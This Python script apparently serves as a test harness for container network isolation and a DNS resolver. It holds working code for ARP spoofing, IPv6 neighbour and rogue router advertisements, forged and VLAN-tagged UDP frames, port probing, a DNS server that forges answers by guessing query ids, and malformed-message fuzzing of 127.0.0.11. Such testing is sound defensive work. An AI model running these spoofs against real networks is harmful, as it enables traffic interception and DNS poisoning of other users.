#!/usr/bin/env python3
"""What a hostile container or neighbour sends, and what hears it.

    network_attack.py knock ADDRESS PORT [ADDRESS PORT...]
                                                          prints those where somebody answers by TCP within half a second
    network_attack.py bound INTERFACE ADDRESS PORT        the same, past the routes, by SO_BINDTODEVICE
    network_attack.py udp INTERFACE MAC SOURCE TARGET PORT [TAG]
                                                          a datagram in a frame of its own to that MAC address
    network_attack.py arp INTERFACE ADDRESS               says to all that ADDRESS is here
    network_attack.py neighbour INTERFACE ADDRESS         the same of IPv6
    network_attack.py router INTERFACE                    says to all that it is their router
    network_attack.py hear ADDRESS PORT                   prints the datagrams that come: the sender's address and the text
    network_attack.py upstream ADDRESS [forge]            a name server: each query's id, port and name are printed, and
                                                          answered with 203.0.113.1, after forged answers if so wished
    network_attack.py ask NAME COUNT                      asks 127.0.0.11 for COUNT names below NAME, and prints the answers
    network_attack.py malformed                           messages to 127.0.0.11 that are none, then one that is
"""
import random
import select
import socket
import struct
import sys
import time

IPV4, ARP, IPV6, VLAN = 0x0800, 0x0806, 0x86DD, 0x8100
EVERYBODY = b"\xff" * 6
RESOLVER = ("127.0.0.11", 53)
RIGHT, WRONG = "203.0.113.1", "203.0.113.66"


def mac_of(interface):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind((interface, 0))
        return one.getsockname()[4]


def parse_mac(text):
    return bytes.fromhex(text.replace(":", ""))


def send_frame(interface, to, kind, payload):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as one:
        one.bind((interface, 0))
        one.send(to + mac_of(interface) + struct.pack("!H", kind) + payload)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def udp(interface, to, source, target, port, tag=None):
    text = b"forged"
    datagram = struct.pack("!HHHH", 4000, int(port), 8 + len(text), 0) + text
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, socket.IPPROTO_UDP, 0)
    head += socket.inet_aton(source) + socket.inet_aton(target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    if tag is None:
        return send_frame(interface, parse_mac(to), IPV4, head + datagram)
    return send_frame(interface, parse_mac(to), VLAN, struct.pack("!HH", int(tag), IPV4) + head + datagram)


def arp(interface, address):
    own = mac_of(interface) + socket.inet_aton(address)
    for operation, target in ((1, b"\0" * 6), (2, EVERYBODY)):
        send_frame(interface, EVERYBODY, ARP,
                   struct.pack("!HHBBH", 1, IPV4, 6, 4, operation) + own + target + own[6:])


def icmp6(interface, source, message):
    to = socket.inet_pton(socket.AF_INET6, "ff02::1")
    pseudo = source + to + struct.pack("!II", len(message), socket.IPPROTO_ICMPV6)
    message = message[:2] + struct.pack("!H", checksum(pseudo + message)) + message[4:]
    head = struct.pack("!IHBB", 6 << 28, len(message), socket.IPPROTO_ICMPV6, 255)
    send_frame(interface, parse_mac("33:33:00:00:00:01"), IPV6, head + source + to + message)


def link_local(interface):
    mac = mac_of(interface)
    return b"\xfe\x80" + b"\0" * 6 + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]


def neighbour(interface, address):
    """RFC 4861, 4.4, unsolicited and overriding."""
    own = socket.inet_pton(socket.AF_INET6, address)
    message = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + own + b"\x02\x01" + mac_of(interface)
    for source in (own, link_local(interface)):
        icmp6(interface, source, message)


def router(interface):
    """RFC 4861, 4.2: a default route, and a prefix to make addresses of."""
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 86400, 0) + socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    message = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + b"\x01\x01" + mac_of(interface) + prefix
    icmp6(interface, link_local(interface), message)


def knock(*where, interface=""):
    waiting = {}
    for address, port in zip(where[::2], where[1::2]):
        one = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
        one.setblocking(False)
        if interface:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        try:
            one.connect((address, int(port)))
        except BlockingIOError:
            waiting[one] = f"{address} {port}"
        except OSError:
            pass  # no way there
    time.sleep(0.5)
    for one in select.select([], list(waiting), [], 0)[1]:
        if one.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            print(waiting[one])


def bound(interface, *where):
    knock(*where, interface=interface)


def hear(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.bind((address, int(port)))
        print("ready", flush=True)
        while True:
            text, client = one.recvfrom(100)
            print(client[0], text.decode(), flush=True)


def question(name, number):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", number, 0x0100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"


def answer(query, address, number):
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 60, 4) + socket.inet_aton(address)
    return struct.pack("!6H", number, 0x8180, 1, 1, 0, 0) + query[12:] + record


def name_of(query):
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode())
        at += 1 + query[at]
    return ".".join(labels)


def upstream(address, forge=""):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
        one.bind((address, 53))
        print("ready", flush=True)
        while True:
            query, client = one.recvfrom(4096)
            number = struct.unpack("!H", query[:2])[0]
            print(number, client[1], name_of(query), flush=True)
            query = query[:12] + query[12:].split(b"\0", 1)[0] + b"\0\0\1\0\1"
            if forge:
                other.sendto(answer(query, WRONG, number), client)  # from another port
                for wrong in range(1, 40):
                    one.sendto(answer(query, WRONG, number ^ wrong), client)
                one.sendto(answer(question("else.where", 0), WRONG, number), client)
            one.sendto(answer(query, RIGHT, number), client)


def ask(name, count):
    for number in range(int(count)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.settimeout(3)
            one.sendto(question(f"n{number}.{name}", number), RESOLVER)
            print(socket.inet_ntoa(one.recv(4096)[-4:]))


def by_tcp(message, length=None):
    with socket.create_connection(RESOLVER, timeout=3) as one:
        try:
            one.sendall(struct.pack("!H", len(message) if length is None else length) + message)
            one.shutdown(socket.SHUT_WR)
            return b"".join(iter(lambda: one.recv(65536), b""))
        except (BrokenPipeError, ConnectionResetError):
            return b""


def malformed():
    head = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0)
    loops = [b"\xc0\x0c", b"\x01a\xc0\x0c", b"\xc0\x0e\xc0\x0c", b"\xc0\xff", b"\xff" * 300, b"\x3f" + b"a" * 62, b"\x80a"]
    messages = [head + loop + b"\0\1\0\1" for loop in loops]
    messages += [question("web", 7)[:size] for size in range(len(question("web", 7)))]
    messages += [struct.pack("!6H", 7, 0x0100, 65535, 65535, 65535, 65535), random.Random(7).randbytes(4096),
                 head + (b"\x3f" + b"a" * 63) * 5 + b"\0\0\1\0\1", b"\xff" * 65000]
    for message in messages:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.sendto(message, RESOLVER)
            answered = by_tcp(message)
            assert len(answered) < 600, len(answered)
    assert len(by_tcp(b"\0" * 65535)) < 100
    by_tcp(question("web", 7), 65535)  # and then it ends
    whole = by_tcp(question("web", 7) + b"\0" * (65535 - len(question("web", 7))))
    assert len(whole) < 600, len(whole)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(3)
        one.sendto(question("web", 9), RESOLVER)
        print(socket.inet_ntoa(one.recv(4096)[-4:]))


if __name__ == "__main__":
    random.seed(time.time())
    globals()[sys.argv[1]](*sys.argv[2:])
